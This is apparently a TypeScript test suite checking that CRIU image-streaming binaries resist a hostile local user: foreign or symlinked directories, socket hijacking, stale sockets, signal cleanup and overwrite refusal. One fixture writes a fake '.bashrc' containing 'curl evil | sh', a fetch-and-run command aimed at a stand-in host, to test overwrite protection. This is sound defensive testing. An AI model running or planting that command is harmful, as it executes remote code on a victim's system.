// The trust model against the binaries (issue 11, items 1, 2, 3, 6, 10): another local user
// pre-creates the directory, plants symlinks, tries to move root's socket aside; img-join must
// not replace what is in DIR, nor leave half an image; sockets are refused when live, replaced
// when stale, and removed on every way out. CRIU is played by the simulator.
import t, { type Test } from 'tap'
import {
  chmodSync, closeSync, existsSync, lstatSync, mkdirSync, openSync, readFileSync, readdirSync, renameSync, statSync,
  symlinkSync, writeFileSync, writeSync,
} from 'node:fs'
import { join } from 'node:path'
import { execSync } from 'node:child_process'
import { DumpClient, RestoreClient } from '@criu-pipes/streamer'
import { close, listenUnix } from '@criu-pipes/sys'
import { tmpDir } from '../lib/tmp-dir.js'
import { bin, startShell, type BinResult } from '../lib/bins.js'
import { testUser } from '../lib/test-user.js'
import { waitFor } from '../lib/wait.js'

const pattern = (n: number, seed: number) => {
  const b = Buffer.alloc(n)
  for (let i = 0; i + 4 <= n; i += 4) b.writeUInt32LE((i * 2654435761 + seed) >>> 0, i)
  return b
}
const image = (): Record<string, Buffer> => ({
  'core-1.img': pattern(900, 3),
  'pagemap-1.img': pattern(20_000, 1),
  'pages-1.img': pattern(3_000_000, 2),
  'inventory.img': pattern(40, 4),
})

/** Dumps `files` (in this order) through the simulator into a running capture. */
function dump(dir: string, files: Record<string, Buffer>): void {
  const c = new DumpClient(dir)
  for (const [name, data] of Object.entries(files)) c.file(name, data)
  c.finish()
}

/** A shard stream holding `files`, made by img-split, as a Buffer. */
async function stream(t: Test, files: Record<string, Buffer>): Promise<Buffer> {
  const dir = tmpDir(t)
  const cap = await startShell(`${bin('img-split')} -D ${dir}/ck > ${dir}/shard 2>/dev/null`)
  dump(join(dir, 'ck'), files)
  const r = await cap.done
  if (r.exitCode !== 0) throw new Error(`capture failed: ${r.stderr}`)
  return readFileSync(join(dir, 'shard'))
}

function refusedOneLine(t: Test, r: BinResult, bin: string, message: RegExp): void {
  t.equal(r.exitCode, 1, 'exit 1')
  t.match(r.stderr, new RegExp(`^${bin}: [^\\n]*$`), 'one line')
  t.match(r.stderr, message)
}

const sockets = (dir: string): string[] => readdirSync(dir).filter(n => n.endsWith('.sock')).sort()
const progressHas = (file: string, line: string) => () => (existsSync(file) && readFileSync(file, 'utf8').split('\n').includes(line)) || undefined

t.test('a directory another user made or controls is refused by every binary, before anything is put in it', async t => {
  const user = testUser(t)
  const theirs = `/tmp/${user.name}-rs`
  t.teardown(() => execSync(`rm -rf ${theirs} ${theirs}-link`))
  t.equal(user.run(`mkdir ${theirs} && chmod 700 ${theirs}`), 0, 'the user pre-creates the directory of the recipe')
  const why = new RegExp(`${theirs} belongs to uid ${user.uid}, not to root or uid 0: refusing to use it`)
  const dir = tmpDir(t)
  writeFileSync(join(dir, 'empty'), '')
  refusedOneLine(t, (await (await startShell(`${bin('img-buffer')} -D ${theirs} < ${dir}/empty`)).done), 'img-buffer', why)
  refusedOneLine(t, (await (await startShell(`${bin('img-split')} -D ${theirs} > /dev/null`)).done), 'img-split', why)
  refusedOneLine(t, (await (await startShell(`${bin('img-join')} -D ${theirs} < ${dir}/empty`)).done), 'img-join', why)
  refusedOneLine(t, (await (await startShell(`${bin('criu-image-streamer')} --images-dir ${theirs} serve < ${dir}/empty`)).done), 'criu-image-streamer', why)
  const mine = join(dir, 'mine')
  mkdirSync(mine)
  const u = await (await startShell(`${bin('uffd-serve')} -D ${mine} -W ${theirs} --pidfile pid -o log`)).done
  t.equal(u.exitCode, 1)
  t.match(u.stderr, why, 'uffd-serve -W, before its pid file and log go in there')
  const ud = await (await startShell(`${bin('uffd-serve')} -D ${theirs} -W ${mine}`)).done
  t.match(ud.stderr, why, 'uffd-serve -D')
  refusedOneLine(t, (await (await startShell(`${bin('crit-make-lazy')} ${theirs} ${dir}/lazy`)).done), 'crit-make-lazy', why)
  refusedOneLine(t, (await (await startShell(`${bin('crit-make-lazy')} ${mine} ${theirs}/lazy`)).done), 'crit-make-lazy', /is not a CRIU image directory|belongs to uid/)
  t.same(readdirSync(theirs), [], 'nothing was created in their directory')
  // Below their directory, a directory of ours is no safer: they can rename it away.
  t.equal(user.run(`chmod 777 ${theirs}`), 0)
  mkdirSync(join(theirs, 'sub'), { mode: 0o700 })
  refusedOneLine(t, (await (await startShell(`${bin('img-split')} -D ${theirs}/sub > /dev/null`)).done), 'img-split',
    new RegExp(`${theirs} above it belongs to uid ${user.uid}`))
  // A symlink they plant as the last component, pointing at a directory of root's.
  t.equal(user.run(`ln -s ${mine} ${theirs}-link`), 0)
  refusedOneLine(t, (await (await startShell(`${bin('img-buffer')} -D ${theirs}-link < ${dir}/empty`)).done), 'img-buffer',
    new RegExp(`${theirs}-link is a symbolic link: refusing to follow it`))
  t.same(readdirSync(mine), [], 'nothing created through the link')
  // A shared directory (world-writable, sticky or not) is refused too, even root's own.
  const shared = join(dir, 'shared')
  mkdirSync(shared)
  chmodSync(shared, 0o1777)
  refusedOneLine(t, (await (await startShell(`${bin('img-split')} -D ${shared} > /dev/null`)).done), 'img-split', /writable by every user \(mode 1777\)/)
})

t.test('a missing directory is made 0700, parents too; the user cannot move the socket aside', async t => {
  const user = testUser(t)
  const dir = tmpDir(t)
  chmodSync(dir, 0o755) // they may look, as in /tmp
  const rs = join(dir, 'a', 'rs')
  const files = image()
  writeFileSync(join(dir, 'shard'), await stream(t, files))
  const srv = await startShell(`${bin('img-buffer')} -D ${rs} -p 3 3>${dir}/progress < ${dir}/shard`)
  await waitFor('socket-init', progressHas(join(dir, 'progress'), 'socket-init'))
  t.equal(statSync(join(dir, 'a')).mode & 0o777, 0o700, 'the parent made 0700')
  t.equal(statSync(rs).mode & 0o777, 0o700, 'the directory made 0700')
  t.equal(statSync(join(rs, 'streamer-serve.sock')).mode & 0o777, 0o600, 'the socket 0600')
  t.not(user.run(`mv ${rs}/streamer-serve.sock ${rs}/aside.sock`), 0, 'the user cannot move it aside')
  t.not(user.run(`mv ${dir}/a ${dir}/b`), 0, 'nor the directory')
  const r = new RestoreClient(rs)
  for (const [name, data] of Object.entries(files)) t.ok(r.file(name)?.equals(data), `${name} served intact`)
  r.finish()
  t.equal((await srv.done).exitCode, 0)
  t.same(sockets(rs), [], 'socket removed after success')
})

t.test('img-split and img-buffer: a live socket is refused (and its server unharmed), a stale one replaced', async t => {
  const dir = tmpDir(t)
  const files = image()
  // img-split: a live capture in the directory; a second one is refused.
  const a = await startShell(`${bin('img-split')} -D ${dir}/ck -p 3 3>${dir}/pa > ${dir}/shard`)
  await waitFor('socket-init', progressHas(join(dir, 'pa'), 'socket-init'))
  const b = await (await startShell(`${bin('img-split')} -D ${dir}/ck > /dev/null`)).done
  refusedOneLine(t, b, 'img-split', new RegExp(`${dir}/ck/img-split.sync.sock is in use: another server is listening on it`))
  dump(join(dir, 'ck'), files)
  const ar = await a.done
  t.equal(ar.exitCode, 0, `the live capture went on: ${ar.stderr}`)
  t.same(sockets(join(dir, 'ck')), [], 'its sockets removed after success')

  // img-buffer: a live server, a second one refused at once (before draining anything).
  const s1 = await startShell(`${bin('img-buffer')} -D ${dir}/rs -p 3 3>${dir}/p1 < ${dir}/shard`)
  await waitFor('socket-init', progressHas(join(dir, 'p1'), 'socket-init'))
  execSync(`mkfifo ${dir}/never`)
  const s2 = await (await startShell(`exec 4<>${dir}/never; ${bin('img-buffer')} -D ${dir}/rs < ${dir}/never`)).done
  refusedOneLine(t, s2, 'img-buffer', /streamer-serve.sock is in use/)
  const r = new RestoreClient(join(dir, 'rs'))
  for (const [name, data] of Object.entries(files)) t.ok(r.file(name)?.equals(data), `${name} served by the first`)
  r.finish()
  t.equal((await s1.done).exitCode, 0)

  // Stale sockets, as a killed server leaves them: replaced, and img-buffer removes its own at
  // start-up, before the drain, so that nobody waiting for the file takes it for a ready server.
  close(listenUnix(join(dir, 'ck', 'streamer-capture.sock')))
  close(listenUnix(join(dir, 'ck', 'img-split.sync.sock')))
  close(listenUnix(join(dir, 'rs', 'streamer-serve.sock')))
  const c = await startShell(`${bin('img-split')} -D ${dir}/ck -p 3 3>${dir}/pc > ${dir}/shard2`)
  await waitFor('socket-init', progressHas(join(dir, 'pc'), 'socket-init'))
  dump(join(dir, 'ck'), files)
  t.equal((await c.done).exitCode, 0, 'capture over stale sockets')
  execSync(`mkfifo ${dir}/in`)
  const s3 = await startShell(`${bin('img-buffer')} -D ${dir}/rs -p 3 3>${dir}/p3 < ${dir}/in`)
  const w = openSync(join(dir, 'in'), 'w')
  await waitFor('the stale socket gone', () => existsSync(join(dir, 'rs', 'streamer-serve.sock')) ? undefined : true)
  writeSync(w, readFileSync(join(dir, 'shard2')))
  closeSync(w)
  await waitFor('socket-init', progressHas(join(dir, 'p3'), 'socket-init'))
  const r3 = new RestoreClient(join(dir, 'rs'))
  t.ok(r3.file('pages-1.img')?.equals(files['pages-1.img']!), 'served after replacing the stale socket')
  r3.finish()
  t.equal((await s3.done).exitCode, 0)
})

t.test('sockets are removed after an error and on SIGINT, SIGTERM, SIGHUP while waiting for CRIU', async t => {
  const dir = tmpDir(t)
  // An error after the sockets are up: the shard consumer dies mid-dump.
  const a = await startShell(`${bin('img-split')} -D ${dir}/ck -p 3 3>${dir}/pa | head -c 1000 > /dev/null`)
  await waitFor('socket-init', progressHas(join(dir, 'pa'), 'socket-init'))
  try { dump(join(dir, 'ck'), image()) } catch { /* the capture is gone: CRIU's write fails, as it should */ }
  t.not((await a.done).exitCode, 0, 'the capture failed')
  t.same(sockets(join(dir, 'ck')), [], 'no socket left after the error')
  // A damaged stream: img-buffer refuses it; the stale socket it found is gone too.
  close(listenUnix(join(dir, 'ck', 'streamer-serve.sock')))
  writeFileSync(join(dir, 'bad'), 'not a stream at all')
  const b = await (await startShell(`${bin('img-buffer')} -D ${dir}/ck < ${dir}/bad`)).done
  t.equal(b.exitCode, 1)
  t.same(sockets(join(dir, 'ck')), [], 'no socket after a refused stream')
  for (const [sig, code] of [['INT', 130], ['TERM', 143], ['HUP', 129]] as const) {
    const p = join(dir, `p${sig}`)
    const s = await startShell(`exec ${bin('img-split')} -D ${dir}/s${sig} -p 3 3>${p} > /dev/null`)
    await waitFor('socket-init', progressHas(p, 'socket-init'))
    t.same(sockets(join(dir, `s${sig}`)), ['img-split.sync.sock', 'streamer-capture.sock'])
    process.kill(s.pid, `SIG${sig}`)
    t.equal((await s.done).exitCode, code, `img-split exits ${code} on SIG${sig}`)
    t.same(sockets(join(dir, `s${sig}`)), [], `img-split's sockets removed on SIG${sig}`)
  }
  writeFileSync(join(dir, 'shard'), await stream(t, image()))
  const r = await startShell(`exec ${bin('img-buffer')} -D ${dir}/rs -p 3 3>${dir}/pr < ${dir}/shard`)
  await waitFor('socket-init', progressHas(join(dir, 'pr'), 'socket-init'))
  process.kill(r.pid, 'SIGTERM')
  t.equal((await r.done).exitCode, 143)
  t.same(sockets(join(dir, 'rs')), [], "img-buffer's socket removed on SIGTERM")
})

t.test('img-join -D: a name already in DIR is refused before anything is written', async t => {
  const dir = tmpDir(t)
  const out = join(dir, 'home')
  mkdirSync(out, { mode: 0o700 })
  writeFileSync(join(out, '.bashrc'), 'the real one\n')
  const s = await stream(t, { 'core-1.img': pattern(100, 1), '.bashrc': Buffer.from('curl evil | sh\n'), 'inventory.img': pattern(40, 4) })
  writeFileSync(join(dir, 'shard'), s)
  const r = await (await startShell(`${bin('img-join')} -D ${out} < ${dir}/shard`)).done
  refusedOneLine(t, r, 'img-join', new RegExp(`${out}/.bashrc already exists: refusing to replace it`))
  t.equal(readFileSync(join(out, '.bashrc'), 'utf8'), 'the real one\n', '.bashrc untouched')
  t.same(readdirSync(out), ['.bashrc'], 'nothing else left in DIR')
})

t.test('img-join -D: a failed final move leaves nothing restorable', async t => {
  const dir = tmpDir(t)
  const out = join(dir, 'out')
  const s = await stream(t, { 'a.img': pattern(100, 1), 'b.img': pattern(100, 2), 'c.img': pattern(5000, 3), 'inventory.img': pattern(40, 4) })
  execSync(`mkfifo ${dir}/in`)
  const j = await startShell(`${bin('img-join')} -D ${out} < ${dir}/in`)
  const w = openSync(join(dir, 'in'), 'w')
  const cut = s.length - 200 // inside inventory.img: every other file has been opened
  writeSync(w, s, 0, cut)
  await waitFor('c.img in the partial directory', () => existsSync(join(out, '.img-join.partial', 'c.img')) || undefined)
  writeFileSync(join(out, 'c.img'), 'appeared meanwhile') // passes the check at open, fails the move
  writeSync(w, s, cut)
  closeSync(w)
  const r = await j.done
  refusedOneLine(t, r, 'img-join', /rename \(.*\/out\/c\.img\): File exists \(EEXIST\)/)
  t.same(readdirSync(out), ['c.img'], 'a.img and b.img were moved, then removed again; no inventory.img')
  t.equal(readFileSync(join(out, 'c.img'), 'utf8'), 'appeared meanwhile', 'not replaced')
})

t.test('img-join -D: the partial directory swapped for a symlink mid-stream is never written through', async t => {
  const user = testUser(t)
  const dir = tmpDir(t)
  chmodSync(dir, 0o755)
  const out = join(dir, 'out')
  const target = join(dir, 'target')
  mkdirSync(target)
  const files = image()
  const s = await stream(t, files)
  execSync(`mkfifo ${dir}/in`)
  const j = await startShell(`${bin('img-join')} -D ${out} < ${dir}/in`)
  const w = openSync(join(dir, 'in'), 'w')
  writeSync(w, s, 0, s.length >> 1)
  const partial = join(out, '.img-join.partial')
  await waitFor('the partial directory', () => existsSync(partial) || undefined)
  t.equal(statSync(partial).mode & 0o777, 0o700, 'partial directory 0700')
  t.not(user.run(`mv ${partial} ${dir}/x`), 0, 'the other user cannot swap it')
  // Even if it is swapped (root can): the files go on into the directory we made, by its fd.
  renameSync(partial, join(out, 'moved'))
  symlinkSync(target, partial)
  writeSync(w, s, s.length >> 1)
  closeSync(w)
  const r = await j.done
  t.equal(r.exitCode, 0, r.stderr)
  t.same(readdirSync(target), [], 'nothing written through the symlink')
  for (const [name, data] of Object.entries(files)) t.ok(readFileSync(join(out, name)).equals(data), `${name} in DIR, intact`)
  t.throws(() => lstatSync(partial), /ENOENT/, 'the planted link removed, not followed')
})

t.test('img-join -D is durable: each file fsynced before its move, DIR after the last', async t => {
  const dir = tmpDir(t)
  const files = image()
  writeFileSync(join(dir, 'shard'), await stream(t, files))
  const r = await (await startShell(`strace -f -qq -e trace=fsync,renameat2 -o ${dir}/trace ${bin('img-join')} -D ${dir}/out < ${dir}/shard`)).done
  t.equal(r.exitCode, 0, r.stderr)
  const calls = readFileSync(join(dir, 'trace'), 'utf8').split('\n').filter(l => /fsync\(|renameat2\(/.test(l))
  const renames = calls.map((l, i) => (l.includes('renameat2(') ? i : -1)).filter(i => i >= 0)
  t.equal(renames.length, Object.keys(files).length, 'one rename per file')
  t.ok(calls.slice(0, renames[0]).filter(l => l.includes('fsync(')).length >= Object.keys(files).length, 'every file fsynced before the first move')
  t.match(calls[renames.at(-1)!], /inventory\.img/, 'inventory.img moved last')
  t.ok(calls.slice(renames.at(-1)! + 1).some(l => l.includes('fsync(')), 'DIR fsynced after the last move')
})
